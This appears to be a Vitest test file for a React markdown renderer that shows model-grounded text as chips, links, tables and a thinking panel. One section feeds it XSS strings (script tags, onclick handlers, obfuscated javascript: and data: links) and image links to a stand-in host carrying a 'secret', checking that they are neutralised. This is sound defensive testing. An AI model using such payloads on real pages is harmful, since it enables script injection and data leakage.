import { fireEvent, render, screen, within } from '@testing-library/react';
import { GroundedText, GroundingProvider, parseGrounding, ThinkingPanel } from 'perceptron-react';
import { createMarkdownRenderer, renderMarkdown } from 'perceptron-react/markdown';
import type { ComponentProps } from 'react';
import { afterEach, describe, expect, test, vi } from 'vitest';

const CAR = '<point_box mention="car"> (1,2) (3,4) </point_box>';

const show = (text: string, props: Partial<ComponentProps<typeof GroundedText>> = {}) =>
  render(<GroundedText grounding={parseGrounding(text)} renderText={renderMarkdown} {...props} />).container;

describe('chips', () => {
  test.each([
    ['a heading', `## The ${CAR}`, 'h2'],
    ['a list', `- the ${CAR}`, 'ul > li'],
    ['an item of several paragraphs', `1. the\n\n   ${CAR}`, 'ol > li > p'],
    ['strong text', `The **${CAR} is red**`, 'p > strong'],
    ['strong text among words without spaces', `这是**${CAR}**的`, 'p > strong'],
    ['emphasis', `The *${CAR}*`, 'p > em'],
    ['a cell', `| it | is |\n| --- | --- |\n| ${CAR} | red |`, 'table td:first-child'],
    ['a quote', `> the ${CAR}`, 'blockquote > p'],
    ['code', `Draw \`${CAR} \`.`, 'p > code'],
    ['a block of code', `\`\`\`xml\n${CAR}\n\`\`\``, 'pre > code.language-xml'],
  ])('are chips in %s', (_, text, parent) => {
    const container = show(text);
    expect(screen.getByRole('button', { name: /^car/ }).closest(parent)).not.toBeNull();
    expect(container.textContent).not.toMatch(/[[\]#]/);
  });

  test('light up and are selected together with others of the same annotation', () => {
    render(
      <GroundingProvider>
        <GroundedText grounding={parseGrounding(`# ${CAR}`)} renderText={renderMarkdown} />
        <GroundedText grounding={parseGrounding(`# ${CAR}`)} />
      </GroundingProvider>,
    );
    const [one, other] = screen.getAllByRole('button');
    fireEvent.pointerOver(one!, { pointerType: 'mouse' });
    expect(other!.dataset.highlighted).toBe('');
    fireEvent.click(one!);
    expect(other!.getAttribute('aria-pressed')).toBe('true');
  });
});

describe('what a model writes', () => {
  const requested = vi.spyOn(HTMLImageElement.prototype, 'src', 'set');
  afterEach(() => requested.mockClear());

  test('is never HTML, and asks for no picture', () => {
    const container = show(
      '<b>bold</b> <img src="https://evil.example/1"> <script>alert(1)</script>\n\n<div onclick="alert(1)">\n\n' +
        '![all I know](https://evil.example/?secret) ![by name][p] [![in a link](https://evil.example/2)](/x)\n\n[p]: https://evil.example/3',
    );
    expect(container.querySelector('b, img, script, [onclick]')).toBeNull();
    expect(container).toHaveProperty('textContent', expect.stringContaining('<script>alert(1)</script>'));
    expect(requested).not.toHaveBeenCalled();
    expect(screen.getByRole('link', { name: 'all I know' })).toHaveProperty(
      'href',
      'https://evil.example/?secret',
    );
    expect(screen.getByRole('link', { name: 'by name' })).toHaveProperty('href', 'https://evil.example/3');
    expect(screen.getByRole('link', { name: 'in a link' }).getAttribute('href')).toBe('/x');
  });

  test.each([
    '[x](javascript:alert)',
    '[x](JaVaScRiPt:alert)',
    '[x](&#106;avascript:alert)',
    '[x](<java&#10;script:alert>)',
    '[x](data:text/html,x)',
    '[x](vbscript:x)',
    '[x][y]\n\n[y]: javascript:alert',
    '![x](data:image/svg+xml,x)',
    '<javascript:alert>',
  ])('is a text where its link would do anything but lead on: %s', (text) => {
    const container = show(text);
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toMatch(/x|javascript/);
  });

  test('leads away from the page without taking the page along', () => {
    show('[a](https://a.example) [b](/b) [c](//c.example) [d](#d) [e](mailto:e@e.example) https://f.example');
    for (const name of ['a', 'b', 'c', 'https://f.example']) {
      const link = screen.getByRole('link', { name });
      expect([link.getAttribute('target'), link.getAttribute('rel')]).toEqual([
        '_blank',
        'noopener noreferrer',
      ]);
    }
    for (const name of ['d', 'e'])
      expect(screen.getByRole('link', { name }).getAttribute('target')).toBeNull();
  });
});

describe('text', () => {
  test('keeps its lines, also in cells, and tildes that mean about', () => {
    const container = show('one\ntwo\n\n| a |\n| - |\n| b<br>c |\n\n5~6 and 7~8');
    expect(container.querySelectorAll('p br, td br')).toHaveLength(2);
    expect(container.querySelector('del')).toBeNull();
    expect(container.textContent).toContain('5~6 and 7~8');
  });

  test('knows a link by what is at its end, and leaves footnotes as they are written', () => {
    const container = show(
      'See [the rules][1], [2] and that[^3].\n\n## Sources\n[1]: /rules\n[2]: /two\n\n[^3]: Or so I think.',
    );
    const [rules, two] = screen.getAllByRole('link');
    expect(rules!.getAttribute('href')).toBe('/rules');
    expect(two!.getAttribute('href')).toBe('/two');
    expect(container.textContent).toContain('that[^3]');
    expect(container.textContent).toContain('[^3]: Or so I think.');
  });

  test.each(['> ', '- '])(
    'is as it is written where %s is nested beyond measure, and throws nothing',
    (mark) => {
      const container = show(`${mark.repeat(1500)}the end`);
      expect(container.querySelectorAll('blockquote, ul').length).toBeLessThan(100);
      expect(container.textContent).toContain('the end');
    },
  );

  test('of thoughts is rendered by the same function', () => {
    const view = (thinking: boolean) => (
      <ThinkingPanel reasoning="Two **boats" thinking={thinking} defaultOpen renderText={renderMarkdown} />
    );
    const { container, rerender } = render(view(true));
    expect(container.querySelector('strong')?.textContent).toBe('boats');
    rerender(view(false));
    expect(container.querySelector('.pr-markdown')?.textContent).toBe('Two **boats');
  });

  test('names tables by their heads and boxes by their tasks', () => {
    show(`| Car | Colour |\n| - | - |\n| ${CAR} | red |\n\n- [x] seen\n- [ ] driven`);
    const table = screen.getByRole('group', { name: 'Car Colour' });
    expect(within(table).getAllByRole('cell')).toHaveLength(2);
    expect(screen.getByRole('checkbox', { name: 'seen' })).toHaveProperty('checked', true);
    expect(screen.getByRole('checkbox', { name: 'driven' })).toHaveProperty('checked', false);
  });

  test('scrolls sideways in itself, and only what scrolls is a tab stop', async () => {
    const wide = 'word '.repeat(20);
    show(
      `| a |\n| - |\n| b |\n\n| ${'c | '.repeat(9)}\n| ${'- | '.repeat(9)}\n| ${`${wide}| `.repeat(9)}\n\n\`\`\`\n${wide.repeat(9)}\n\`\`\``,
      {
        style: { width: 300 },
      },
    );
    const [narrow, broad] = screen.getAllByRole('group');
    await expect.poll(() => [narrow!.tabIndex, broad!.tabIndex]).toEqual([-1, 0]);
    await expect.poll(() => document.querySelector('pre')!.tabIndex).toBe(0);
    expect(broad!.getBoundingClientRect().width).toBeLessThanOrEqual(300);
    expect(document.querySelector('pre')!.getBoundingClientRect().width).toBeLessThanOrEqual(300);
  });
});

describe("an app's own", () => {
  test('elements take their places, but a link of a chip is a chip', () => {
    const ours = createMarkdownRenderer({
      components: {
        a: ({ href, children }) => <q title={href}>{children}</q>,
        img: ({ alt }) => <i>{alt}</i>,
        h2: 'h4',
      },
    });
    const container = show(`## ${CAR}\n\n[docs](/docs) ![fig](/fig.png) [bad](javascript:x)`, {
      renderText: ours,
    });
    expect(screen.getByRole('button').closest('h4')).not.toBeNull();
    expect(container.querySelector('q')!.title).toBe('/docs');
    expect(container.querySelectorAll('q')).toHaveLength(1);
    expect(container.querySelector('i')!.textContent).toBe('fig');
  });

  test('plugins see the text after ours', () => {
    const shout = () => (tree: { children: { type: string; children: { value: string }[] }[] }) => {
      for (const { children } of tree.children) children[0]!.value = children[0]!.value.toUpperCase();
    };
    const container = show('hello', {
      renderText: createMarkdownRenderer({ remarkPlugins: [shout] }),
    });
    expect(container.querySelector('p')!.textContent).toBe('HELLO');
  });
});
